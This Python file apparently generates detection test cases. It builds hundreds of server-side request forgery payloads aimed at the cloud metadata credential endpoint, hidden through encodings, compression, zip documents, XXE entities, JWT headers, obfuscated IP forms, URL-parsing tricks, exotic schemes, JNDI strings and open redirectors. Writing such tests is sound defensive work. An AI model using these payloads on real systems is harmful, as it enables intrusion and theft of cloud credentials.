"""Request forgery in disguises: each has to be `ssrf-confirmed` by the fetch that follows, unless it says otherwise."""
import base64
import gzip
import io
import json
import struct
import tarfile
import zipfile
import zlib
from urllib.parse import quote

from wire import *

try:
    import brotli
    import zstandard
except ImportError:
    brotli = zstandard = None

JSON, FORM, XML = "application/json", "application/x-www-form-urlencoded", "text/xml"
HEX_URL = URL.encode().hex()
B64 = base64.b64encode(URL.encode()).decode()


def confirmed(request, port=8080, fetch=None, must="ssrf-confirmed"):
    def build(capture):
        capture.inbound(request, fetch and (lambda: fetch(capture)) or capture.fetch, port)
    return must, build


def attempt(request, must="ssrf-attempt"):
    return must, lambda capture: capture.inbound(request)


def zipped(entries, method=zipfile.ZIP_DEFLATED, streamed=False):
    raw = io.BytesIO()
    if streamed:
        raw.seekable = lambda: False
        raw.tell = None
    out = io.BytesIO()

    class Stream:
        def __init__(self): self.data = b""
        def write(self, b): self.data += bytes(b); return len(b)
        def flush(self): pass
    target = Stream() if streamed else out
    with zipfile.ZipFile(target, "w", method) as z:
        for name, content in entries:
            z.writestr(name, content)
    return target.data if streamed else out.getvalue()


def multipart(parts, boundary="xYzBoundary"):
    out = b""
    for headers, content in parts:
        content = content.encode() if isinstance(content, str) else content
        out += f"--{boundary}\r\n{headers}\r\n\r\n".encode() + content + b"\r\n"
    return out + f"--{boundary}--\r\n".encode()


def multipart_post(parts, boundary="xYzBoundary"):
    return post(multipart(parts, boundary), f"multipart/form-data; boundary={boundary}")


def qp(text):
    return "=\r\n".join([text.replace("=", "=3D").replace(":", "=3A").replace(".", "=2E")[at:at + 60] for at in range(0, 400, 60)]).rstrip("=\r\n")


def jwt(header):
    return f"{url64(json.dumps(header).encode())}.{url64(b'{}')}.{url64(b'sig' * 10)}"


def ws_frame(payload, opcode=1, fin=True, mask=b"\x12\x34\x56\x78", rsv1=False):
    first = (0x80 if fin else 0) | (0x40 if rsv1 else 0) | opcode
    length = len(payload)
    bit = 0x80 if mask else 0
    size = bytes([bit | length]) if length < 126 else bytes([bit | 126]) + struct.pack(">H", length) if length < 65536 else bytes([bit | 127]) + struct.pack(">Q", length)
    body = bytes(b ^ mask[i % 4] for i, b in enumerate(payload)) if mask else payload
    return bytes([first]) + size + (mask or b"") + body


def deflated(payload):
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return (packer.compress(payload) + packer.flush(zlib.Z_SYNC_FLUSH))[:-4]


def websocket(frames_c=(), frames_s=(), meanwhile=None, extension="", client=USER, server=APP, port=8080):
    request = get("/ws", f"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n{extension}")
    accept = f"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n{extension}\r\n".encode()

    def build(capture):
        turns = [("c", request), ("s", accept), ("c", b"".join(frames_c))]
        turns += [meanwhile or capture.fetch, ("s", b"".join(frames_s) or ws_frame(b"ok", mask=None))]
        capture.talk(client, server, port, turns)
    return build


def ws(*frames, extension=""):
    return "ssrf-confirmed", websocket(frames, extension=extension)


DEFLATE = "Sec-WebSocket-Extensions: permessage-deflate\r\n"

# HTTP/2 without a dynamic table: literal fields, never indexed
def h2_headers(fields):
    def text(value):
        value = value.encode() if isinstance(value, str) else value
        assert len(value) < 127
        return bytes([len(value)]) + value
    return b"".join(b"\x10" + text(name) + text(value) for name, value in fields)


def h2_frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def h2(request_headers, body, response_headers, response, meanwhile=None, client=USER, server=APP, port=50051):
    def build(capture):
        c = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"")
        c += h2_frame(1, 4, 1, h2_headers(request_headers))
        for at in range(0, len(body), 16000):
            c += h2_frame(0, 0, 1, body[at:at + 16000])
        c += h2_frame(0, 1, 1, b"")
        s = h2_frame(4, 0, 0, b"") + h2_frame(1, 4, 1, h2_headers(response_headers))
        for at in range(0, len(response), 16000):
            s += h2_frame(0, 0, 1, response[at:at + 16000])
        s += h2_frame(1, 5, 1, h2_headers([("grpc-status", "0")]))
        capture.talk(client, server, port, [("c", c), meanwhile or capture.fetch, ("s", s)])
    return build


def field(number, value):
    value = value.encode() if isinstance(value, str) else value
    length, out = len(value), b""
    while length > 127:
        out += bytes([length & 127 | 128]); length >>= 7
    return bytes([number << 3 | 2]) + out + bytes([length]) + value


def grpc(message, packed=False):
    return bytes([int(packed)]) + struct.pack(">I", len(message)) + message


def grpc_case(coding, pack, must=("ssrf-confirmed", "credential-relayed"), message=None, separate=False):
    headers = [(":method", "POST"), (":scheme", "http"), (":path", "/preview.Preview/Fetch"), (":authority", "app"), ("content-type", "application/grpc"), ("te", "trailers")]
    headers += [("grpc-encoding", coding)] if coding else []
    back = [(":status", "200"), ("content-type", "application/grpc")] + ([("grpc-encoding", coding)] if coding else [])
    ask = message or field(1, URL) + field(3, "png")
    first = grpc(field(1, "hello"), False) if separate else b""
    return must, h2(headers, first + grpc(pack(ask), bool(coding)), back, grpc(pack(field(2, AWS)), bool(coding)))


def page_led(kind, page, target="/shot?url=http://pages.example/p", more=()):
    def build(capture):
        def visit():
            body = page.encode()
            head = f"HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\n{''.join(more)}Content-Length: {len(body)}\r\n\r\n".encode()
            request = b"GET /p HTTP/1.1\r\nHost: pages.example\r\nUser-Agent: HeadlessChrome/126\r\n\r\n"
            capture.exchange(APP, OTHER, request, head + body)
            capture.fetch()
        capture.inbound(get(target), visit)
    return "ssrf-confirmed", build


def proxied(header, request=None):
    return confirmed(header + (request or get(f"/fetch?url={URL}")))


def proxy2(family, addresses, command=1, tlv=b""):
    body = addresses + tlv
    return b"\r\n\r\n\x00\r\nQUIT\n" + bytes([0x20 | command, family]) + struct.pack(">H", len(body)) + body


def cases():
    j = lambda **fields: json.dumps(fields)
    xxe = f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "{URL}">]><r>&x;</r>'
    # --- UTF-16
    for name, encode in {
        "le-bom": lambda s: b"\xff\xfe" + s.encode("utf-16-le"), "be-bom": lambda s: b"\xfe\xff" + s.encode("utf-16-be"),
        "le": lambda s: s.encode("utf-16-le"), "be": lambda s: s.encode("utf-16-be"),
    }.items():
        yield f"utf16-{name}-json", confirmed(post(encode(j(callback=URL)), JSON))
        yield f"utf16-{name}-json-charset", confirmed(post(encode(j(a=1, callback=URL)), "application/json; charset=utf-16"))
        yield f"utf16-{name}-xml", confirmed(post(encode(xxe.replace("1.0\"", "1.0\" encoding=\"UTF-16\"")), XML))
        yield f"utf16-{name}-form", confirmed(post(encode(f"url={URL}&x=1"), FORM))
        yield f"utf16-{name}-form-percent", confirmed(post(encode(f"a=1&url={quote(URL, safe='')}"), FORM))
        yield f"utf16-{name}-text", confirmed(post(encode(URL), "text/plain"))
        yield f"utf16-{name}-html", confirmed(post(encode(f"<html><iframe src='{URL}'></iframe></html>"), "text/html"))
        yield f"utf16-{name}-part", confirmed(multipart_post([('Content-Disposition: form-data; name="u"', encode(URL))]))
        yield f"utf16-{name}-part-xml", confirmed(multipart_post([('Content-Disposition: form-data; name="f"; filename="a.xml"\r\nContent-Type: text/xml', encode(xxe))]))
        yield f"utf16-{name}-gzip", confirmed(post(gzip.compress(encode(j(u=URL))), JSON, headers="Content-Encoding: gzip\r\n"))
        yield f"utf16-{name}-base64", confirmed(post(j(u=base64.b64encode(encode(URL)).decode()), JSON))
        yield f"utf16-{name}-query", confirmed(get("/f?u=" + quote(encode(URL))))
        yield f"utf16-{name}-zip", confirmed(post(zipped([("d.xml", encode(xxe))]), "application/zip"))
    yield "utf32-json", confirmed(post(j(callback=URL).encode("utf-32"), JSON), must="ssrf-confirmed")
    yield "utf8-bom-json", confirmed(post(b"\xef\xbb\xbf" + j(callback=URL).encode(), JSON))
    yield "utf7-xml", confirmed(post('<?xml version="1.0" encoding="UTF-7"?>' + xxe[21:].encode("utf-7").decode(), XML))
    # --- encodings of bodies
    packs = {"gzip": gzip.compress, "deflate": zlib.compress, "x-gzip": gzip.compress,
             "deflate-raw": lambda b: zlib.compress(b)[2:-4]}
    if brotli:
        packs |= {"br": brotli.compress, "zstd": zstandard.ZstdCompressor().compress}
    for name, pack in packs.items():
        header = f"Content-Encoding: {name.split('-raw')[0]}\r\n"
        for kind, body in {"json": (JSON, j(a="b" * 300, u=URL)), "form": (FORM, "a=1&u=" + quote(URL, safe="")), "xml": (XML, xxe), "text": ("text/plain", URL)}.items():
            yield f"coding-{name}-{kind}", confirmed(post(pack(body[1].encode()), body[0], headers=header))
            yield f"coding-{name}-{kind}-chunked", confirmed(post_chunked(pack(body[1].encode()), body[0], headers=header))
        yield f"coding-{name}-cr", confirmed(post(pack(j(u=URL).encode()), JSON, headers=header.title()))
        yield f"coding-{name}-undeclared", confirmed(post(pack(j(u=URL, pad="x" * 200).encode()), JSON)) if name not in ("br", "deflate-raw") else None
        yield f"coding-{name}-behind-gzip", confirmed(post(gzip.compress(pack(j(u=URL).encode())), JSON, headers=f"Content-Encoding: {name.split('-raw')[0]}, gzip\r\n"))
        yield f"coding-{name}-two-headers", confirmed(post(gzip.compress(pack(j(u=URL).encode())), JSON, headers=f"Content-Encoding: {name.split('-raw')[0]}\r\nContent-Encoding: gzip\r\n"))
        yield f"coding-{name}-long", confirmed(post(pack(j(pad=[rand(i, 50) for i in range(2000)], u=URL).encode()), JSON, headers=header))
        yield f"coding-{name}-long-repetitive", confirmed(post(pack((j(pad=["row %d of the table" % i for i in range(9000)], u=URL)).encode()), JSON, headers=header))
        yield f"coding-{name}-transfer", confirmed(
            b"POST /i HTTP/1.1\r\nHost: app.example\r\nContent-Type: application/json\r\nTransfer-Encoding: " + name.split("-raw")[0].encode() + b", chunked\r\n\r\n" + chunked(pack(j(u=URL).encode()))) if name in ("gzip", "deflate") else None
        yield f"coding-{name}-in-base64", confirmed(post(j(u=base64.b64encode(pack(URL.encode())).decode()), JSON)) if name not in ("br", "deflate-raw") else None
        yield f"coding-{name}-part", confirmed(multipart_post([('Content-Disposition: form-data; name="f"; filename="x.gz"\r\nContent-Encoding: ' + name.split('-raw')[0], pack(j(u=URL).encode()))])) if name not in ("br", "deflate-raw") else None
    yield "coding-three", confirmed(post(gzip.compress(gzip.compress(gzip.compress(j(u=URL).encode()))), JSON, headers="Content-Encoding: gzip, gzip, gzip\r\n"))
    yield "coding-identity", confirmed(post(j(u=URL), JSON, headers="Content-Encoding: identity\r\n"))
    yield "coding-aws-chunked", confirmed(post(j(u=URL), JSON, headers="Content-Encoding: aws-chunked\r\n"))
    # --- zip documents
    rel = f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://x/image" Target="{URL}" TargetMode="External"/></Relationships>'
    many = [(f"word/media/image{i}.txt", rand(i, 900)) for i in range(12)]
    documents = {
        "docx": [("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<w/>"), ("word/_rels/document.xml.rels", rel)],
        "docx-late": [("[Content_Types].xml", "<Types/>")] + many + [("word/_rels/settings.xml.rels", rel)],
        "xlsx": [("xl/workbook.xml", "<w/>"), ("xl/externalLinks/_rels/externalLink1.xml.rels", rel)],
        "odt": [("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", f'<office:document-content xmlns:xlink="http://www.w3.org/1999/xlink"><draw:image xlink:href="{URL}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></office:document-content>')],
        "xxe": [("xl/workbook.xml", xxe)], "epub": [("mimetype", "application/epub+zip"), ("OEBPS/a.xhtml", f'<html xmlns="http://www.w3.org/1999/xhtml"><img src="{URL}"/></html>')],
        "svg": [("logo.svg", f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{URL}"/></svg>')],
        "json": [("manifest.json", j(icon=URL))], "txt": [("links.txt", URL)], "html": [("index.html", f"<iframe src={URL}>")],
    }
    for name, entries in documents.items():
        yield f"zip-{name}-deflated", confirmed(post(zipped(entries), "application/octet-stream"))
        yield f"zip-{name}-stored", confirmed(post(zipped(entries, zipfile.ZIP_STORED), "application/zip"))
        yield f"zip-{name}-streamed", confirmed(post(zipped(entries, streamed=True), "application/zip"))
        yield f"zip-{name}-streamed-stored", confirmed(post(zipped(entries, zipfile.ZIP_STORED, streamed=True), "application/zip"))
        yield f"zip-{name}-part", confirmed(multipart_post([('Content-Disposition: form-data; name="a"', "x"), (f'Content-Disposition: form-data; name="file"; filename="a.{name}"\r\nContent-Type: application/octet-stream', zipped(entries))]))
        yield f"zip-{name}-base64", confirmed(post(j(file=base64.b64encode(zipped(entries)).decode()), JSON))
        yield f"zip-{name}-in-zip", confirmed(post(zipped([("inner.zip", zipped(entries))]), "application/zip"))
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w:gz") as tar:
        info = tarfile.TarInfo("chart/values.json"); data = j(u=URL).encode(); info.size = len(data); tar.addfile(info, io.BytesIO(data))
    yield "targz-json", confirmed(multipart_post([('Content-Disposition: form-data; name="f"; filename="a.tgz"', raw.getvalue())]))
    # --- transfer encodings of parts
    for name, headers, content in [
        ("qp", "Content-Transfer-Encoding: quoted-printable", qp(URL)), ("qp-upper", "content-transfer-encoding: QUOTED-PRINTABLE", qp(URL)),
        ("qp-soft", "Content-Transfer-Encoding: quoted-printable", URL[:20] + "=\r\n" + URL[20:]), ("qp-soft-lf", "Content-Transfer-Encoding: quoted-printable", URL[:9] + "=\n" + URL[9:]),
        ("qp-html", "Content-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable", f"<img src=3D\"{URL[:25]}=\r\n{URL[25:]}\">"),
        ("base64", "Content-Transfer-Encoding: base64", B64), ("base64-lines", "Content-Transfer-Encoding: base64", base64.encodebytes((URL).encode()).decode()),
        ("base64-html-lines", "Content-Type: text/html\r\nContent-Transfer-Encoding: base64", base64.encodebytes(f"<p>{'text ' * 40}<iframe src='{URL}'>".encode()).decode()),
        ("7bit", "Content-Transfer-Encoding: 7bit", URL), ("binary-json", "Content-Type: application/json\r\nContent-Transfer-Encoding: binary", j(u=URL)),
    ]:
        yield f"part-{name}", confirmed(multipart_post([('Content-Disposition: form-data; name="u"\r\n' + headers, content)]))
        yield f"part-{name}-late", confirmed(multipart_post([('Content-Disposition: form-data; name="p%d"' % i, rand(i, 300)) for i in range(40)] + [('Content-Disposition: form-data; name="u"\r\n' + headers, content)]))
        yield f"part-{name}-related", confirmed(post(multipart([("Content-Type: text/plain\r\n" + headers if "Content-Type" not in headers else headers, content)]), 'multipart/related; boundary="xYzBoundary"'))
    yield "part-nested", confirmed(post(multipart([("Content-Type: multipart/mixed; boundary=inner", multipart([('Content-Disposition: attachment; filename="u.txt"', URL)], "inner"))]), "multipart/form-data; boundary=xYzBoundary"))
    # --- many harmless things before it
    for count in (60, 400, 3000):
        links = "".join(f'<a href="https://www.example.com/products/{i}/view">p{i}</a>' for i in range(count))
        yield f"many-links-{count}", confirmed(post(f"<html>{links}<iframe src=\"{URL}\"></iframe></html>", "text/html"))
        yield f"many-links-{count}-json", confirmed(post(j(html=f"<html>{links}<iframe src=\"{URL}\"></iframe></html>"), JSON))
        rows = [{"id": i, "image": f"https://cdn.example.com/img/{i}/large.png", "host": f"h{i}.example.com"} for i in range(count)]
        yield f"many-rows-{count}", confirmed(post(json.dumps(rows + [{"id": 0, "image": URL}]), JSON))
        yield f"many-rows-{count}-nested", confirmed(post(json.dumps({"data": {"rows": rows, "last": {"image": {"src": URL}}}}), JSON))
        yield f"many-csv-{count}", confirmed(post("id,image\n" + "".join(f"{i},https://cdn.example.com/{i}.png\n" for i in range(count)) + f"9,{URL}\n", "text/csv"), must=None)
        yield f"many-parts-{count}", confirmed(multipart_post([(f'Content-Disposition: form-data; name="f{i}"', f"https://cdn.example.com/{i}") for i in range(min(count, 900))] + [('Content-Disposition: form-data; name="u"', URL)]))
        yield f"many-params-{count}", confirmed(post("&".join(f"p{i}=https%3A%2F%2Fcdn.example.com%2F{i}" for i in range(count)) + "&u=" + quote(URL, safe=""), FORM))
        yield f"many-xml-{count}", confirmed(post("<?xml version='1.0'?><r>" + "".join(f"<i href='https://cdn.example.com/a/{i}'>http://x.example/latest/api/{i}</i>" for i in range(count)) + f"<i>{URL}</i></r>", XML))
    yield "many-query", confirmed(get("/f?" + "&".join(f"p{i}=https://cdn.example.com/{i}" for i in range(120)) + f"&u={URL}"))
    # --- long bodies
    for size in (70_000, 200_000, 600_000):
        pad = rand(size, size)
        yield f"long-{size}-json", confirmed(post(j(picture=pad, u=URL), JSON))
        yield f"long-{size}-json-escaped", confirmed(post(j(picture=pad, u=URL).replace("/", "\\/"), JSON))
        yield f"long-{size}-json-unicode", confirmed(post(j(picture=pad) [:-1] + ', "u": "' + "".join("\\u%04x" % ord(c) for c in URL) + '"}', JSON))
        yield f"long-{size}-form", confirmed(post(f"p={quote(pad, safe='')}&u={quote(URL, safe='')}", FORM))
        yield f"long-{size}-part", confirmed(multipart_post([('Content-Disposition: form-data; name="f"; filename="a.bin"', pad), ('Content-Disposition: form-data; name="u"', URL)]))
        yield f"long-{size}-xml", confirmed(post(f"<?xml version='1.0'?><r><p>{pad}</p><i>{URL}</i></r>", XML))
        yield f"long-{size}-html", confirmed(post(f"<html><img src='data:image/png;base64,{pad}'><iframe src='{URL}'></html>", "text/html"))
        yield f"long-{size}-chunked", confirmed(post_chunked(j(picture=pad, u=URL).encode(), JSON))
        yield f"long-{size}-middle", confirmed(post(j(picture=pad, u=URL, more=pad), JSON))
        yield f"long-{size}-gzip", confirmed(post(gzip.compress(j(picture=pad, u=URL).encode()), JSON, headers="Content-Encoding: gzip\r\n"))
        yield f"long-{size}-utf16", confirmed(post(j(picture=pad[:size // 2], u=URL).encode("utf-16"), JSON))
        yield f"long-{size}-base64-value", confirmed(post(j(picture=pad, u=B64), JSON))
        yield f"long-{size}-decimal", confirmed(post(j(picture=pad, u=f"http://2852039166{PATH}"), JSON))
        yield f"long-{size}-fields", confirmed(post(j(picture=pad, host=IMDS, path=PATH), JSON))
    # --- tokens
    for name, header in {"jku": {"alg": "RS256", "jku": URL}, "x5u": {"x5u": URL, "alg": "RS256", "typ": "JWT"}, "jku-decimal": {"alg": "RS256", "jku": f"http://2852039166{PATH}"}}.items():
        token = jwt(header)
        yield f"jwt-{name}-bearer", confirmed(get("/me", f"Authorization: Bearer {token}\r\n"))
        yield f"jwt-{name}-authorization-jwt", confirmed(get("/me", f"Authorization: JWT {token}\r\n"))
        yield f"jwt-{name}-dpop", confirmed(get("/me", f"DPoP: {token}\r\n"))
        yield f"jwt-{name}-cookie", confirmed(get("/me", f"Cookie: a=b; session={token}; c=d\r\n"))
        yield f"jwt-{name}-cookie-alone", confirmed(get("/me", f"Cookie: {token}\r\n"))
        yield f"jwt-{name}-header", confirmed(get("/me", f"X-Access-Token: {token}\r\n"))
        yield f"jwt-{name}-form", confirmed(post(f"grant_type=jwt-bearer&assertion={token}", FORM))
        yield f"jwt-{name}-json", confirmed(post(j(token=token), JSON))
        yield f"jwt-{name}-query", confirmed(get(f"/cb?id_token={token}"))
        yield f"jwt-{name}-text", confirmed(post(token, "application/jwt"))
        yield f"jwt-{name}-path", confirmed(get(f"/verify/{token}"))
        yield f"jwt-{name}-ws-protocol", confirmed(get("/me", f"Sec-WebSocket-Protocol: chat, {token}\r\n"))
    # --- host and path apart
    pairs = [("host", "path"), ("hostname", "uri"), ("server", "endpoint"), ("domain", "page"), ("ip", "url_path"), ("target", "resource"), ("h", "p")]
    for h, p in pairs:
        for value in (IMDS, "2852039166", "metadata.google.internal", f"{IMDS}:80"):
            fetch = (lambda c: c.fetch("gcp")) if "google" in value else None
            path = GCP_PATH if "google" in value else PATH
            if (h, p) != pairs[0] and value != IMDS:
                continue
            tag = f"fields-{h}-{p}-{value.replace(':', '-')}"
            yield f"{tag}-query", confirmed(get(f"/f?{h}={value}&{p}={quote(path, safe='')}"), fetch=fetch)
            yield f"{tag}-query-plain", confirmed(get(f"/f?x=1&{p}={path}&{h}={value}"), fetch=fetch)
            yield f"{tag}-noslash", confirmed(get(f"/f?{h}={value}&{p}={quote(path[1:], safe='')}"), fetch=fetch)
            yield f"{tag}-form", confirmed(post(f"{h}={value}&port=80&{p}={quote(path, safe='')}", FORM), fetch=fetch)
            yield f"{tag}-json", confirmed(post(json.dumps({h: value, "port": 80, p: path}), JSON), fetch=fetch)
            yield f"{tag}-json-nested", confirmed(post(json.dumps({"webhook": {h: value, "options": {p: path}}}), JSON), fetch=fetch)
            yield f"{tag}-headers", confirmed(get("/f", f"X-{h.title()}: {value}\r\nX-{p.title()}: {path}\r\n"), fetch=fetch)
            yield f"{tag}-xml", confirmed(post(f"<?xml version='1.0'?><r><{h}>{value}</{h}><{p}>{path}</{p}></r>", XML), fetch=fetch)
            yield f"{tag}-xml-attributes", confirmed(post(f"<?xml version='1.0'?><r {h}='{value}' {p}='{path}'/>", XML), fetch=fetch)
            yield f"{tag}-multipart", confirmed(multipart_post([(f'Content-Disposition: form-data; name="{h}"', value), (f'Content-Disposition: form-data; name="{p}"', path)]), fetch=fetch)
            yield f"{tag}-header-and-query", confirmed(get(f"/f?{p}={path}", f"X-Upstream: {value}\r\n"), fetch=fetch)
            yield f"{tag}-path-and-query", confirmed(get(f"/proxy/{value}?{p}={path}"), fetch=fetch)
    # --- targets
    for name, target in {
        "at": f"@{IMDS}{PATH}", "colon-at": f":@{IMDS}{PATH}", "port-at": f":80@{IMDS}{PATH}", "slash-at": f"/@{IMDS}{PATH}", "userinfo": f"/f?u=http://app.example@{IMDS}{PATH}",
        "userinfo-encoded": f"/f?u=http%3A%2F%2Fapp.example%3A80%40{IMDS}{quote(PATH, safe='')}", "backslash": f"/f?u=http:\\\\{IMDS}{PATH.replace('/', chr(92))}",
        "fragment-at": f"/f?u=http://app.example%23@{IMDS}{PATH}", "absolute-userinfo": f"http://app.example@{IMDS}{PATH}",
        "dot-at": f".@{IMDS}{PATH}", "double-slash": f"//{IMDS}{PATH}", "slash-slash-encoded": f"/%2F%2F{IMDS}{PATH}", "proxy-segment": f"/proxy/{IMDS}{PATH}", "proxy-http": f"/proxy/http/{IMDS}/80{PATH}",
        "proxy-url": f"/proxy/{URL}", "proxy-one-slash": f"/proxy/http:/{IMDS}{PATH}", "proxy-encoded": "/proxy/" + quote(URL, safe=""), "proxy-double": "/proxy/" + quote(quote(URL, safe=""), safe=""),
        "nul-host": f"/f?u=http://{IMDS}%00{PATH}", "nul-host-port": f"/f?u=http://{IMDS}%00:80{PATH}", "nul-suffix": f"/f?u=http://{IMDS}%00.good.example{PATH}", "nul-end": f"/f?u={URL}%00.png", "nul-double": f"/f?u=http://{IMDS}%2500{PATH}",
        "hex": f"/img/{HEX_URL}", "hex-upper": f"/img/{HEX_URL.upper()}", "hex-0x": f"/img/0x{HEX_URL}", "hex-signed": f"/{rand(8, 40, '0123456789abcdef')}/{HEX_URL}", "hex-query": f"/img?u={HEX_URL}", "hex-ext": f"/img/{HEX_URL}.png",
        "hex-escaped": "/f?u=" + "".join("%%5Cx%02x" % b for b in URL.encode()),
        "b64": f"/img/{quote(B64, safe='')}", "b64-raw": f"/img/{B64}", "b64-url": f"/img/{url64(URL.encode())}", "b64-ext": f"/unsafe/300x200/{url64(URL.encode())}.jpg", "b64-query": f"/img?u={quote(B64)}",
        "b64-split": "/insecure/fill/" + "/".join(url64(URL.encode())[i:i + 16] for i in range(0, 200, 16)).rstrip("/"), "b64-twice": f"/img?u={base64.b64encode(B64.encode()).decode()}",
        "b64-noscheme": "/img?u=" + url64(f"{IMDS}{PATH}".encode()), "b64-json": "/img/" + url64(j(url=URL, w=3).encode()),
        "jar": f"/f?u=jar:{URL}!/a/b.xml", "jar-upper": f"/f?u=JAR:{URL}%21/", "jar-encoded": "/f?u=" + quote(f"jar:{URL}!/x", safe=""), "jar-file": f"/f?u=jar:jar:{URL}!/a!/b", "zip-scheme": f"/f?u=zip:{URL}!/a", "netdoc": f"/f?u=netdoc:{URL}", "view-source": f"/f?u=view-source:{URL}", "feed": f"/f?u=feed:{URL}", "url-prefix": f"/f?u=url:{URL}", "URL-prefix": f"/f?u=URL:{URL}",
        "php-filter": f"/f?u=php://filter/convert.base64-encode/resource={URL}", "zlib-wrapper": f"/f?u=compress.zlib://{URL}", "phar": f"/f?u=phar://{IMDS}{PATH}", "gopher": f"/f?u=gopher://{IMDS}:80/_GET%20{quote(quote(PATH))}%20HTTP/1.1%250d%250a", "ftp": f"/f?u=ftp://{IMDS}{PATH}",
        "redir-google": f"/f?u=https://www.google.com/url?q={URL}", "redir-encoded": "/f?u=" + quote(f"https://l.facebook.com/l.php?u={quote(URL, safe='')}", safe=""), "redir-path": f"/f?u=https://r.jina.ai/{URL}", "redir-archive": f"/f?u=https://web.archive.org/web/2024/{URL}", "redir-b64": "/f?u=" + quote(f"https://r.example/r?to={B64}", safe=""),
        "redir-httpbin": "/f?u=" + quote(f"https://httpbin.org/redirect-to?url={quote(URL, safe='')}&status_code=302", safe=""), "redir-twice": "/f?u=" + quote("https://a.example/?u=" + quote("https://b.example/?u=" + quote(URL, safe=""), safe=""), safe=""), "redir-r3dir": f"/f?u=https://307.r3dir.me/--to/?url={URL}", "redir-nip": f"/f?u=http://a9fea9fe.nip.io{PATH}", "redir-sslip": f"/f?u=http://169-254-169-254.sslip.io{PATH}",
        "blank-tab": f"/f?u=http://{IMDS}/latest/%09meta-data/iam/security-credentials/demo", "newline": f"/f?u=%0ahttp://{IMDS}{PATH}", "leading-blank": f"/f?u=%20{URL}", "upper-scheme": f"/f?u=HTTP://{IMDS}{PATH}", "one-slash": f"/f?u=http:/{IMDS}{PATH}", "no-slash": f"/f?u=http:{IMDS}{PATH}", "three-slashes": f"/f?u=http:///{IMDS}{PATH}", "no-scheme": f"/f?u={IMDS}{PATH}", "scheme-relative": f"/f?u=//{IMDS}{PATH}", "dotless": f"/f?u=http://2852039166{PATH}", "octal": f"/f?u=http://0251.0376.0251.0376{PATH}", "hexip": f"/f?u=http://0xa9fea9fe{PATH}", "mixed": f"/f?u=http://169.254.43518{PATH}", "v6": f"/f?u=http://[::ffff:169.254.169.254]{PATH}", "v6-hex": f"/f?u=http://[::ffff:a9fe:a9fe]{PATH}", "fullwidth": "/f?u=" + quote(f"http://１６９．２５４．１６９．２５４{PATH}"), "circled": "/f?u=" + quote(f"http://①⑥⑨.②⑤④.①⑥⑨.②⑤④{PATH}"), "trailing-dot": f"/f?u=http://{IMDS}.{PATH}", "dots": "/f?u=" + quote(f"http://169。254。169。254{PATH}"), "nat64": f"/f?u=http://[64:ff9b::a9fe:a9fe]{PATH}", "path-dots": f"/f?u=http://{IMDS}/latest/../latest/meta-data/./iam/security-credentials/demo", "path-double-slash": f"/f?u=http://{IMDS}//latest//meta-data/iam/security-credentials/demo", "path-encoded": f"/f?u=http://{IMDS}/%6catest/%6deta-data/iam/security-credentials/demo", "ws-scheme": f"/f?u=ws://{IMDS}{PATH}", "array": f"/f?u[]={URL}", "json-in-query": "/f?q=" + quote(j(src=URL)), "xml-in-query": "/f?q=" + quote(f"<?xml version='1.0'?><a href='{URL}'/>"), "semicolon": f"/f;u={URL};v=1", "matrix": f"/f?a=1;u={URL}", "quoted": f"/f?u=%22{URL}%22", "angle": f"/f?u=%3C{URL}%3E",
    }.items():
        yield f"target-{name}", confirmed(f"GET {target} HTTP/1.1\r\nHost: app.example\r\n\r\n".encode())
    for name, url in {"jdbc-mysql": f"jdbc:mysql://{IMDS}:80/latest", "jdbc-h2": f"jdbc:h2:mem:x;INIT=RUNSCRIPT FROM '{URL}'", "jdbc-postgres": f"jdbc:postgresql://{IMDS}/x?socketFactory=a&socketFactoryArg={URL}", "jdbc-oracle": f"jdbc:oracle:thin:@{IMDS}:80/x", "ldap": f"ldap://{IMDS}:80/latest/meta-data", "dict": f"dict://{IMDS}:80/GET", "jndi": f"${{jndi:ldap://{IMDS}/latest/meta-data/}}", "s3": f"http://{IMDS}/latest/meta-data/"}.items():
        yield f"attempt-{name}-query", attempt(get(f"/f?u={quote(url, safe='')}"), must=None if name == "jndi" else "ssrf-attempt")
        yield f"attempt-{name}-json", attempt(post(j(u=url), JSON), must=None if name == "jndi" else "ssrf-attempt")
        yield f"attempt-{name}-form", attempt(post("u=" + quote(url, safe=""), FORM), must=None if name == "jndi" else "ssrf-attempt")
    # --- PROXY protocol
    v6 = bytes.fromhex("20010db8000000000000000000000007") + bytes.fromhex("20010db8000000000000000000000010")
    ports = struct.pack(">HH", 40000, 443)
    v4 = bytes([198, 51, 100, 7, 10, 20, 0, 10])
    for name, header in {
        "v1-tcp4": b"PROXY TCP4 198.51.100.7 10.20.0.10 40000 443\r\n", "v1-tcp6": b"PROXY TCP6 2001:db8::7 2001:db8::10 40000 443\r\n", "v1-unknown": b"PROXY UNKNOWN\r\n", "v1-unknown-long": b"PROXY UNKNOWN ffff:f...f:ffff ffff:f...f:ffff 65535 65535\r\n",
        "v2-tcp4": proxy2(0x11, v4 + ports), "v2-tcp6": proxy2(0x21, v6 + ports), "v2-local": proxy2(0, b"", command=0), "v2-tlv": proxy2(0x11, v4 + ports, tlv=b"\x03\x00\x04abcd\xea\x00\x10\x01vpce-0123456789"), "v2-unspec": proxy2(0, b""),
        "v2-unix": proxy2(0x31, b"\0" * 216), "twice": b"PROXY TCP4 198.51.100.7 10.20.0.10 40000 443\r\n" * 2,
    }.items():
        yield f"proxy-{name}", proxied(header)
        yield f"proxy-{name}-post", proxied(header, post(j(u=URL), JSON))
